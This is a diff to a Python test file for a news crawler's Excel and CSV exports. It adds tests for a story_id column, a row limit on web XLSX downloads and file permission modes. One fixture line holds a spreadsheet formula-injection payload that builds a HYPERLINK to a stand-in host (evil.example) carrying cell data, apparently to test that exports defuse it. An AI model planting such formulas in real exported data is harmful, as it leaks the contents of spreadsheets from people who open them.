@@ -5,8 +5,12 @@ zipfile and the XML it holds, no spreadsheet library needed) and ``--format csv-
 from __future__ import annotations
 
 import csv
+import html
 import io
+import os
 import re
+import stat
+import tempfile
 import zipfile
 from collections.abc import Iterator
 from datetime import UTC, datetime
@@ -24,14 +28,17 @@ from kn_crawl.db.migrate import upgrade
 from kn_crawl.db.store import ArticleStore, ensure_source
 from kn_crawl.search.export import ExportError
 from kn_crawl.search.export_sheets import EXCEL_MAX_TEXT, excel_text, german_cell, write_xlsx
-from kn_crawl.web import create_app
+from kn_crawl.web import create_app, exports
 from tests.test_search import article, fill
 
 NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
 EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Mehr")'
 LONG_BODY = "Verwaltung " * 4000  # 44,000 characters: more than an Excel cell holds
 
-COLUMNS = "id source published_at url kicker title teaser section type_label tags body tag_origins"
+COLUMNS = (
+    "id source published_at url kicker title teaser section type_label tags body tag_origins "
+    "story_id"
+)
 
 
 class Sheet:
@@ -70,7 +77,7 @@ class Sheet:
         return self.formats.get(self.styles[int(self.cells[ref].get("s", "0"))])
 
     def row(self, n: int) -> list[str | float | None]:
-        return [self.value(f"{chr(65 + i)}{n}") for i in range(12)]
+        return [self.value(f"{chr(65 + i)}{n}") for i in range(13)]
 
 
 @pytest.fixture(scope="module")
@@ -128,6 +135,7 @@ def test_cli_xlsx_has_exact_cells_dates_frozen_header_and_filter(
         "OZG; Hessen",
         None,
         "site; site",
+        2.0,  # story_id: the Kassel article's own story (the second article stored)
     ]
     assert sheet.number_format("C2") == "dd.mm.yyyy hh:mm"
     assert sheet.value("C3") == 45673.02083333334  # 16.01.2025 00:30 Berlin: 45673 + 30/1440
@@ -143,7 +151,7 @@ def test_cli_xlsx_has_exact_cells_dates_frozen_header_and_filter(
     pane = sheet.xml.find(".//m:pane", NS)
     assert pane is not None and (pane.get("ySplit"), pane.get("state")) == ("1", "frozen")
     autofilter = sheet.xml.find("m:autoFilter", NS)
-    assert autofilter is not None and autofilter.get("ref") == "A1:L4"
+    assert autofilter is not None and autofilter.get("ref") == "A1:M4"
     widths = [c.get("width") for c in sheet.xml.iterfind(".//m:col", NS)]
     assert widths[5] == "60.7109375"  # title: 60 characters
     assert 'name="Artikel"' in sheet.workbook
@@ -248,6 +256,59 @@ def test_web_downloads(engine: Engine, db_url: str) -> None:
         assert "/export.xlsx?q=tag:OZG" in page and "/export-excel.csv?q=tag:OZG" in page
     finally:
         app.config["KN_ENGINE"].dispose()
+
+
+def test_web_xlsx_refuses_too_many_articles_before_writing_anything(
+    engine: Engine, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The articles are counted first: above the web's limit the answer is a German 400 at
+    once, without a temporary file (here any would fail: the temp folder does not exist)."""
+    fill(engine)  # tag:OZG matches 2 articles
+    monkeypatch.setattr(exports, "WEB_XLSX_MAX_ROWS", 1)
+    temp = tmp_path / "temp"
+    monkeypatch.setattr(tempfile, "tempdir", str(temp))
+    app = create_app(db_url)
+    client = app.test_client()
+    try:
+        response = client.get("/export.xlsx?q=tag:OZG")
+        assert response.status_code == 400
+        page = response.get_data(as_text=True)
+        assert (
+            "Export nicht möglich: eine Excel-Datei aus der Weboberfläche fasst höchstens "
+            "1 Artikel – bitte die Suche eingrenzen, CSV wählen oder auf dem Server "
+            "„kn-crawl export --format xlsx“ verwenden"
+        ) in html.unescape(page)
+        assert not temp.exists()
+        monkeypatch.setattr(exports, "WEB_XLSX_MAX_ROWS", 2)  # exactly the limit: served
+        temp.mkdir()
+        response = client.get("/export.xlsx?q=tag:OZG")
+        assert response.status_code == 200
+        sheet = Sheet(response.get_data())
+        assert [sheet.value("F2"), sheet.value("F3"), sheet.value("F4")] == [
+            "Buergeramt Kassel digitalisiert Anträge",
+            "Serviceportal für alle Kommunen",
+            None,
+        ]
+        assert list(temp.iterdir()) == []
+    finally:
+        app.config["KN_ENGINE"].dispose()
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv-excel"])
+def test_sheet_files_get_the_mode_of_a_plain_file(sheet_db: str, tmp_path: Path, fmt: str) -> None:
+    """Like csv/jsonl: a new file as the umask allows, an existing one keeps its mode."""
+    new, kept = tmp_path / "new.out", tmp_path / "kept.out"
+    kept.write_bytes(b"earlier export")
+    kept.chmod(0o640)
+    old = os.umask(0o022)
+    try:
+        for out in (new, kept):
+            cli(sheet_db, "export", "tag:OZG", "--format", fmt, "--output", str(out))
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE(new.stat().st_mode) == 0o644
+    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
+    assert kept.read_bytes() != b"earlier export"
 
 
 def test_berlin_is_the_date_zone() -> None:
